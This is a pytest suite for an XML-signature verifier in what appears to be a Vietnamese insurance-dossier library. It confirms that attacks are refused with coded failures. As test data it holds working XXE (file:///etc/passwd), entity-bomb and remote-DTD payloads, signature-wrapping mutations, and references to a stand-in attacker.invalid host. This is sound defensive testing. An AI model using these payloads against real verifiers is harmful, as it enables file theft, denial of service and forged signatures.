"""Issue 3 item 3: every attack gets a FAILED verdict and a coded reason."""

from __future__ import annotations

import copy
import socket
from datetime import UTC, datetime

import pytest
from lxml import etree

from hoso import xmlsafe
from hoso.signature import Indication, SubIndication, VerifyPolicy, verify

DS = "http://www.w3.org/2000/09/xmldsig#"
Q = f"{{{DS}}}"


def now():
    return datetime.now(UTC)


@pytest.fixture(scope="module")
def signed_form(test_pki, d02_form) -> bytes:
    return test_pki.sign(d02_form)


@pytest.fixture(scope="module")
def signed_envelope(test_pki, signed_form) -> bytes:
    from hoso.signature.packing import pack

    return pack(
        [("d02.xml", signed_form), ("giay.pdf", b"%PDF-1.4 demo")],
        signer=test_pki.signer(),
        unit_code="TA0100A",
        procedure_code="600",
        period="11/2026",
        ivan_code="00030",
    )


def check(test_pki, data: bytes, code: str, sub: SubIndication = SubIndication.FORMAT_FAILURE, **kw):
    report = verify(data, trust=test_pki.trust(), at=now(), **kw)
    assert report.indication is Indication.FAILED, (report.code, report.reason_en)
    assert report.sub_indication is sub, (report.code, report.reason_en)
    assert report.code == code, (report.code, report.reason_en)
    assert report.signed_root is None
    assert report.reason and report.reason_en
    return report


def mutate(data: bytes, fn) -> bytes:
    root = etree.fromstring(data)
    fn(root)
    return etree.tostring(root, xml_declaration=True, encoding="utf-8")


def sig_of(root):
    return root.find(f".//{Q}Signature")


def test_baseline_is_valid(test_pki, signed_form, signed_envelope):
    assert verify(signed_form, trust=test_pki.trust(), at=now()).passed
    assert verify(signed_envelope, trust=test_pki.trust(), at=now()).passed


# --- signature wrapping ---------------------------------------------------------------------------


def test_wrapping_content_added_beside_the_signed_tree(test_pki, signed_form):
    def add(root):
        extra = etree.SubElement(root.find("NoiDung"), "LaoDong")
        etree.SubElement(extra, "HoTen").text = "Người Giả Mạo"

    check(test_pki, mutate(signed_form, add), "HASH_FAILURE", SubIndication.HASH_FAILURE)


def test_wrapping_original_moved_under_the_signature(test_pki, signed_form):
    """Classic XSW: the signed original hidden in a ds:Object, forged content where the reader looks."""

    def wrap(root):
        original = copy.deepcopy(root)
        obj = etree.SubElement(sig_of(root), Q + "Object")
        obj.append(original)
        root.find("NoiDung/LaoDong/HoTen").text = "Người Giả Mạo"

    report = verify(mutate(signed_form, wrap), trust=test_pki.trust(), at=now())
    assert report.indication is Indication.FAILED
    assert report.code in {"MULTIPLE_SIGNATURES", "SIGNATURE_STRUCTURE", "HASH_FAILURE"}


def test_wrapping_original_moved_under_an_unsigned_object_single_signature(test_pki, signed_form):
    def wrap(root):
        original = copy.deepcopy(root)
        sig_of(original).getparent().remove(sig_of(original))
        obj = etree.SubElement(sig_of(root), Q + "Object")
        obj.append(original.find("NoiDung"))
        root.find("NoiDung/LaoDong/HoTen").text = "Người Giả Mạo"

    check(test_pki, mutate(signed_form, wrap), "HASH_FAILURE", SubIndication.HASH_FAILURE)


def test_wrapping_second_form_root_nested(test_pki, signed_form):
    def nest(root):
        fake = etree.SubElement(root.find("NoiDung"), root.tag)
        etree.SubElement(fake, "NoiDung")

    check(test_pki, mutate(signed_form, nest), "SIGNATURE_STRUCTURE")


def test_wrapping_second_hoso_nested_in_envelope(test_pki, signed_envelope):
    def nest(root):
        fake = etree.SubElement(root.find("NoiDung"), "Hoso")
        fake.append(copy.deepcopy(root.find("NoiDung/ThongTinDonVi")))

    check(test_pki, mutate(signed_envelope, nest), "SIGNATURE_STRUCTURE")


def test_wrapping_reference_to_an_id_elsewhere(test_pki, signed_form):
    def point(root):
        root.find("NoiDung").set("Id", "content")
        sig_of(root).find(f"{Q}SignedInfo/{Q}Reference").set("URI", "#content")

    check(test_pki, mutate(signed_form, point), "REFERENCE_NOT_WHOLE_DOCUMENT")


def test_wrapping_two_references(test_pki, signed_form):
    def second(root):
        si = sig_of(root).find(f"{Q}SignedInfo")
        si.append(copy.deepcopy(si.find(f"{Q}Reference")))

    check(test_pki, mutate(signed_form, second), "REFERENCE_NOT_WHOLE_DOCUMENT")


def test_two_signatures(test_pki, signed_form):
    def twice(root):
        root.find("Cky").append(copy.deepcopy(sig_of(root)))

    check(test_pki, mutate(signed_form, twice), "MULTIPLE_SIGNATURES")


@pytest.mark.parametrize("where", ["root", "NoiDung", "nested-cky"])
def test_signature_in_the_wrong_place(test_pki, signed_form, where):
    def move(root):
        sig = sig_of(root)
        sig.getparent().remove(sig)
        if where == "root":
            root.append(sig)
        elif where == "NoiDung":
            root.find("NoiDung").append(sig)
        else:
            etree.SubElement(root.find("NoiDung"), "Cky").append(sig)

    check(test_pki, mutate(signed_form, move), "SIGNATURE_MISPLACED")


def test_two_cky_elements(test_pki, signed_form):
    check(test_pki, mutate(signed_form, lambda r: etree.SubElement(r, "Cky")), "SIGNATURE_STRUCTURE")


# --- entities, DTDs ------------------------------------------------------------------------------


XXE = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE D02-TS [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<D02-TS><NoiDung><LaoDong><HoTen>&xxe;</HoTen></LaoDong></NoiDung><Cky/></D02-TS>"""

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<D02-TS><NoiDung>&lol3;</NoiDung><Cky/></D02-TS>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE D02-TS SYSTEM "http://attacker.invalid/evil.dtd"><D02-TS><Cky/></D02-TS>"""


@pytest.mark.parametrize("payload", [XXE, BOMB, REMOTE_DTD], ids=["xxe", "bomb", "remote-dtd"])
def test_dtds_and_entities_refused(test_pki, payload):
    check(test_pki, payload, "XML_DTD_FORBIDDEN")


def test_dtd_inserted_into_a_signed_file(test_pki, signed_form):
    head, rest = signed_form.split(b"?>", 1)
    check(test_pki, head + b'?><!DOCTYPE D02-TS [<!ENTITY a "b">]>' + rest, "XML_DTD_FORBIDDEN")


# --- transforms and fetching ---------------------------------------------------------------------

XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2"
BASE64 = "http://www.w3.org/2000/09/xmldsig#base64"


@pytest.mark.parametrize("algorithm", [XSLT, XPATH, XPATH2, BASE64])
def test_dangerous_transforms_refused(test_pki, signed_form, algorithm):
    def add(root):
        transforms = sig_of(root).find(f"{Q}SignedInfo/{Q}Reference/{Q}Transforms")
        t = etree.SubElement(transforms, Q + "Transform", Algorithm=algorithm)
        if algorithm == XPATH:
            etree.SubElement(t, Q + "XPath").text = "not(ancestor-or-self::Cky)"

    check(test_pki, mutate(signed_form, add), "TRANSFORM_FORBIDDEN")


def _no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_retrieval_method_refused_without_network(test_pki, signed_form, monkeypatch):
    def add(root):
        key_info = sig_of(root).find(f"{Q}KeyInfo")
        etree.SubElement(
            key_info,
            Q + "RetrievalMethod",
            URI="http://attacker.invalid/key.der",
            Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
        )

    data = mutate(signed_form, add)
    _no_network(monkeypatch)
    check(test_pki, data, "RETRIEVAL_FORBIDDEN")


@pytest.mark.parametrize("uri", ["http://attacker.invalid/doc.xml", "file:///etc/passwd", "doc.xml"])
def test_external_reference_refused_without_network(test_pki, signed_form, monkeypatch, uri):
    data = mutate(signed_form, lambda r: sig_of(r).find(f"{Q}SignedInfo/{Q}Reference").set("URI", uri))
    _no_network(monkeypatch)
    check(test_pki, data, "RETRIEVAL_FORBIDDEN")


@pytest.mark.parametrize(
    "algorithm",
    ["http://www.w3.org/2000/09/xmldsig#hmac-sha1", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"],
)
def test_hmac_signatures_refused(test_pki, signed_form, algorithm):
    data = mutate(
        signed_form, lambda r: sig_of(r).find(f"{Q}SignedInfo/{Q}SignatureMethod").set("Algorithm", algorithm)
    )
    check(test_pki, data, "HMAC_FORBIDDEN")


def test_real_hmac_signature_made_with_libxmlsec_refused(test_pki, d02_form):
    import xmlsec

    root = etree.fromstring(d02_form)
    sig = xmlsec.template.create(
        root, xmlsec.constants.TransformExclC14N, xmlsec.constants.TransformHmacSha256
    )
    root.find("Cky").append(sig)
    ref = xmlsec.template.add_reference(sig, xmlsec.constants.TransformSha256, uri="")
    xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
    ki = xmlsec.template.ensure_key_info(sig)
    xmlsec.template.add_x509_data(ki)
    ctx = xmlsec.SignatureContext()
    ctx.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, b"shared secret")
    ctx.sign(sig)
    check(test_pki, etree.tostring(root), "HMAC_FORBIDDEN")


def test_unknown_signature_algorithm_refused(test_pki, signed_form):
    data = mutate(
        signed_form,
        lambda r: (
            sig_of(r)
            .find(f"{Q}SignedInfo/{Q}SignatureMethod")
            .set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
        ),
    )
    check(test_pki, data, "ALGORITHM_FORBIDDEN")


# --- keys ------------------------------------------------------------------------------------------


def test_keyvalue_disagreeing_with_certificate(test_pki, signed_form):
    other = test_pki["commune"].certificate.public_key().public_numbers()
    import base64

    def swap(root):
        modulus = sig_of(root).find(f"{Q}KeyInfo/{Q}KeyValue/{Q}RSAKeyValue/{Q}Modulus")
        modulus.text = base64.b64encode(other.n.to_bytes(256, "big")).decode()

    check(test_pki, mutate(signed_form, swap), "KEYVALUE_MISMATCH", SubIndication.SIG_CRYPTO_FAILURE)


def test_certificate_swapped_for_another_valid_one(test_pki, signed_form):
    import base64

    from cryptography.hazmat.primitives.serialization import Encoding

    der = test_pki["commune"].certificate.public_bytes(Encoding.DER)

    def swap(root):
        sig = sig_of(root)
        kv = sig.find(f"{Q}KeyInfo/{Q}KeyValue")
        kv.getparent().remove(kv)
        sig.find(f"{Q}KeyInfo/{Q}X509Data/{Q}X509Certificate").text = base64.b64encode(der).decode()

    check(test_pki, mutate(signed_form, swap), "SIG_CRYPTO_FAILURE", SubIndication.SIG_CRYPTO_FAILURE)


def test_no_certificate(test_pki, signed_form):
    def drop(root):
        x509_data = sig_of(root).find(f"{Q}KeyInfo/{Q}X509Data")
        x509_data.getparent().remove(x509_data)

    check(test_pki, mutate(signed_form, drop), "NO_CERTIFICATE")


# --- size, depth, encodings ------------------------------------------------------------------------


def test_oversize_input_refused_with_configurable_limit(test_pki, signed_form):
    small = VerifyPolicy(limits=xmlsafe.XmlLimits(max_bytes=len(signed_form) - 1))
    check(test_pki, signed_form, "XML_TOO_LARGE", policy=small)
    big = VerifyPolicy(limits=xmlsafe.XmlLimits(max_bytes=len(signed_form)))
    assert verify(signed_form, trust=test_pki.trust(), at=now(), policy=big).passed


def test_deep_nesting_refused(test_pki):
    data = b"<D02-TS>" + b"<a>" * 100 + b"</a>" * 100 + b"<Cky/></D02-TS>"
    check(test_pki, data, "XML_TOO_DEEP")


def test_utf16_reencoding_of_a_signed_file_refused(test_pki, signed_form):
    text = signed_form.decode("utf-8").replace("encoding='utf-8'", "encoding='UTF-16'")
    check(test_pki, text.encode("utf-16"), "XML_ENCODING")


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-7", "windows-1258", "US-ASCII"])
def test_non_utf8_declared_encodings_refused(test_pki, encoding):
    data = f'<?xml version="1.0" encoding="{encoding}"?><D02-TS><NoiDung/><Cky/></D02-TS>'.encode("ascii")
    check(test_pki, data, "XML_ENCODING")


def test_invalid_utf8_bytes_refused(test_pki):
    check(test_pki, b'<?xml version="1.0" encoding="utf-8"?><D02-TS>\xff\xfe</D02-TS>', "XML_MALFORMED")


# --- comments: unsigned, never returned ----------------------------------------------------------


def test_comment_injected_into_signed_text_is_not_returned(test_pki, signed_form):
    name = "Nguyễn Văn Đức 1".encode()
    tampered = signed_form.replace(name, name[:8] + b"<!-- injected -->" + name[8:], 1)
    report = verify(tampered, trust=test_pki.trust(), at=now())
    assert report.passed  # comments are outside C14N without comments
    assert b"injected" not in report.signed_xml
    assert "COMMENTS_IGNORED" in {w.code for w in report.warnings}
    assert report.signed_root.find("NoiDung/LaoDong/HoTen").text == "Nguyễn Văn Đức 1"


# --- envelopes -----------------------------------------------------------------------------------


def _envelope_with(test_pki, signed_envelope, change) -> bytes:
    """Change the envelope's content and re-sign it, so only the parts can be at fault."""
    root = etree.fromstring(signed_envelope)
    sig = sig_of(root)
    sig.getparent().remove(sig)
    change(root)
    return test_pki.sign(etree.tostring(root, xml_declaration=True, encoding="utf-8"))


def test_envelope_with_tampered_embedded_form(test_pki, signed_envelope):
    import base64

    def tamper(root):
        item = root.find("NoiDung/ThongTinHoSo/ToKhais/FileToKhai")
        form = base64.b64decode(item.findtext("NoiDungFile")).replace("Đức 1".encode(), "Đức 9".encode())
        encoded = base64.b64encode(form).decode()
        item.find("NoiDungFile").text = encoded
        item.find("DoDaiFile").text = str(len(encoded))

    report = verify(_envelope_with(test_pki, signed_envelope, tamper), trust=test_pki.trust(), at=now())
    assert report.indication is Indication.FAILED
    assert report.sub_indication is SubIndication.HASH_FAILURE
    assert report.code == "PART_HASH_FAILURE"
    assert report.parts[0].indication is Indication.FAILED


def test_envelope_with_wrong_declared_length(test_pki, signed_envelope):
    def lie(root):
        root.find("NoiDung/ThongTinHoSo/ToKhais/FileToKhai[2]/DoDaiFile").text = "5"

    report = verify(_envelope_with(test_pki, signed_envelope, lie), trust=test_pki.trust(), at=now())
    assert report.indication is Indication.FAILED
    assert report.code == "PART_DOSSIER_LENGTH_MISMATCH"
    assert report.parts[1].code == "DOSSIER_LENGTH_MISMATCH"


def test_envelope_embedding_an_envelope_refused(test_pki, signed_envelope):
    import base64

    def embed(root):
        item = root.find("NoiDung/ThongTinHoSo/ToKhais/FileToKhai")
        encoded = base64.b64encode(signed_envelope).decode()
        item.find("NoiDungFile").text = encoded
        item.find("DoDaiFile").text = str(len(encoded))

    report = verify(_envelope_with(test_pki, signed_envelope, embed), trust=test_pki.trust(), at=now())
    assert report.indication is Indication.FAILED
    assert report.parts[0].code == "UNKNOWN_ROOT"


def test_manifest_with_remote_reference_refused(test_pki, signed_form, monkeypatch):
    def add(root):
        obj = etree.SubElement(sig_of(root), Q + "Object", Id="obj")
        manifest = etree.SubElement(obj, Q + "Manifest")
        ref = etree.SubElement(manifest, Q + "Reference", URI="http://attacker.invalid/x")
        etree.SubElement(ref, Q + "DigestMethod", Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
        etree.SubElement(ref, Q + "DigestValue").text = "AAAA"
        si = sig_of(root).find(f"{Q}SignedInfo")
        extra = etree.SubElement(
            si, Q + "Reference", URI="#obj", Type="http://www.w3.org/2000/09/xmldsig#Manifest"
        )
        etree.SubElement(extra, Q + "DigestMethod", Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
        etree.SubElement(extra, Q + "DigestValue").text = "AAAA"

    data = mutate(signed_form, add)
    _no_network(monkeypatch)
    check(test_pki, data, "RETRIEVAL_FORBIDDEN")


def test_reference_to_object_whose_id_is_not_unique_refused(test_pki, signed_form):
    def add(root):
        etree.SubElement(sig_of(root), Q + "Object", Id="props")
        root.find("NoiDung").set("{http://www.w3.org/XML/1998/namespace}id", "props")
        si = sig_of(root).find(f"{Q}SignedInfo")
        extra = etree.SubElement(si, Q + "Reference", URI="#props")
        etree.SubElement(extra, Q + "DigestMethod", Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
        etree.SubElement(extra, Q + "DigestValue").text = "AAAA"

    check(test_pki, mutate(signed_form, add), "REFERENCE_NOT_WHOLE_DOCUMENT")


def test_c14n_transform_with_foreign_parameter_refused(test_pki, signed_form):
    def add(root):
        transforms = sig_of(root).find(f"{Q}SignedInfo/{Q}Reference/{Q}Transforms")
        t = etree.SubElement(transforms, Q + "Transform", Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
        etree.SubElement(t, Q + "XPath").text = "self::node()"

    check(test_pki, mutate(signed_form, add), "TRANSFORM_FORBIDDEN")


def test_too_many_parts_refused(test_pki, signed_envelope):
    report = verify(signed_envelope, trust=test_pki.trust(), at=now(), policy=VerifyPolicy(max_parts=1))
    assert report.indication is Indication.FAILED
    assert report.code == "DOSSIER_TOO_MANY_FILES"
    assert report.parts == []
